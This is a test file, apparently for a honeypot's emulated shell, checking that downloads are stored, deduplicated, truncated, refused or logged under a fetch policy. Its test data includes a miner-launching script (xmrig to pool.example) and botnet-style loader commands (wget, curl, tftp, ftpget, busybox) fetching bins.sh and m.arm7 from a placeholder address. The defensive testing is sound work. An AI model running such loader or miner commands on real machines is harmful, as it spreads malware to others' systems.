// Downloads through the shell under the fetch policy: stored once, cut at the size limit, refused
// for addresses the config does not allow, and recorded when fetching is off. The only server
// contacted is the one this test runs on 127.0.0.1.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { testShell } from '../../helpers/shell.js';

const PAYLOAD = Buffer.from('#!/bin/sh\n./xmrig -o pool.example:3333\n');

async function withServer(fn: (base: string, hits: () => number) => Promise<void>): Promise<void> {
  let hits = 0;
  const server = createServer((req, res) => {
    hits++;
    if (req.url === '/big') res.end(Buffer.alloc(200_000, 0x41));
    else res.end(PAYLOAD);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  try {
    await fn(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, () => hits);
  } finally {
    server.close();
  }
}

const noDns = async (h: string): Promise<string[]> => {
  throw new Error(`no DNS in tests (${h})`);
};

test('the same download twice is stored once; over the size limit it is cut and recorded as truncated', async () => {
  await withServer(async (base) => {
    const t = testShell({ shell: { seed: 'dl' }, fetch: { enabled: true, allow_cidrs: ['127.0.0.0/8'], max_bytes: 50_000, per_source_per_minute: 100 }, resolver: noDns });
    const s = t.open('198.51.100.50');
    const a = await s.run(`wget -q ${base}/a.sh -O /tmp/a.sh; curl -s -o /tmp/b.sh ${base}/b.sh; wget ${base}/big; ls -l /tmp/a.sh /tmp/b.sh big | awk '{print $5}'`);
    assert.equal(a.out.split('\n').filter((l) => /^\d+$/.test(l)).join(','), `${PAYLOAD.length},${PAYLOAD.length},50000`);
    await s.end();
    const dl = t.events.filter((e) => e.type === 'file.download').map((e) => e.payload as Record<string, unknown>);
    const sha = createHash('sha256').update(PAYLOAD).digest('hex');
    assert.deepEqual(dl.map((d) => [d.url, d.outcome, d.sha256 === sha]), [
      [`${base}/a.sh`, 'stored', true],
      [`${base}/b.sh`, 'duplicate', true],
      [`${base}/big`, 'truncated', false],
    ]);
    assert.equal(dl[2]!.size, 50_000);
    const files = readdirSync(join(t.dir, 'quarantine'));
    assert.deepEqual(files.sort(), [sha, dl[2]!.sha256].sort(), 'one file per distinct content');
  });
});

test('a loopback or private target the config does not allow is refused (and never contacted)', async () => {
  await withServer(async (base, hits) => {
    const t = testShell({ shell: { seed: 'dl2' }, fetch: { enabled: true, allow_cidrs: [] }, resolver: noDns });
    const s = t.open('198.51.100.51');
    const r = await s.run(`wget ${base}/x; curl -fsS http://10.0.0.5/y`);
    // The fake machine's own loopback has nothing on that port (local-fetch.test.ts); another machine's times out.
    assert.match(r.out, /failed: Connection refused\.\ncurl: \(28\) Failed to connect to 10\.0\.0\.5 port 80/);
    await s.end();
    assert.equal(hits(), 0);
    const dl = t.events.filter((e) => e.type === 'file.download').map((e) => e.payload as Record<string, unknown>);
    assert.deepEqual(dl.map((d) => d.outcome), ['refused', 'refused']);
    assert.match(String(dl[0]!.reason), /127\.0\.0\.1 is in a range fetching may not reach/);
  });
});

test('with fetching off (the default) the attempt and its URL are recorded, tftp and ftpget included', async () => {
  const t = testShell({ shell: { seed: 'dl3' }, resolver: noDns });
  const s = t.open('198.51.100.52');
  await s.run('cd /tmp; tftp -g -r bins.sh 203.0.113.66; ftpget -u anonymous -p x 203.0.113.66 b.sh bins/b.sh; busybox wget http://203.0.113.66/m.arm7');
  await s.end();
  const dl = t.events.filter((e) => e.type === 'file.download').map((e) => e.payload as Record<string, unknown>);
  assert.deepEqual(dl.map((d) => [d.url, d.outcome]), [
    ['tftp://203.0.113.66/bins.sh', 'disabled'],
    ['ftp://anonymous:x@203.0.113.66/bins/b.sh', 'disabled'],
    ['http://203.0.113.66/m.arm7', 'disabled'],
  ]);
});
